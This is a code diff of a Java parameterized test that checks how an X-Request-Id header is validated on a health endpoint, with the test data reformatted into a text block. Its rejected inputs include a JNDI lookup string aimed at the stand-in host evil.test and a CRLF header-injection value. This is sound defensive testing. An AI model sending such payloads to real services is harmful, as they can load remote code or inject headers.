@@ -30,22 +30,19 @@ class InjectionTest {
     }
 
     @ParameterizedTest
-    @CsvSource(
-            delimiter = '|',
-            quoteCharacter = '\0',
-            value = {
-                "a.B-3_                  | 1      | true",
-                "x                       | 128    | true",
-                "x                       | 129    | false",
-                "x                       | 10000  | false",
-                "a\tb                    | 1      | false",
-                "a b                     | 1      | false",
-                "a;b                     | 1      | false",
-                "\u00e9                  | 1      | false",
-                "a\"b                    | 1      | false",
-                "${jndi:ldap://evil.test}| 1      | false",
-                "%0d%0aX-Evil:1          | 1      | false",
-            })
+    @CsvSource(delimiter = '|', quoteCharacter = '\0', textBlock = """
+                    a.B-3_                   | 1     | true
+                    x                        | 128   | true
+                    x                        | 129   | false
+                    x                        | 10000 | false
+                    a\tb                     | 1     | false
+                    a b                      | 1     | false
+                    a;b                      | 1     | false
+                    \u00e9                   | 1     | false
+                    a"b                      | 1     | false
+                    ${jndi:ldap://evil.test} | 1     | false
+                    %0d%0aX-Evil:1           | 1     | false
+                    """)
     void valid_request_id_is_kept_and_others_are_replaced(String id, int times, boolean isValid) {
         String given = id.repeat(times);
         var response = get("/health/live", "X-Request-Id: " + given).assertStatus(200);
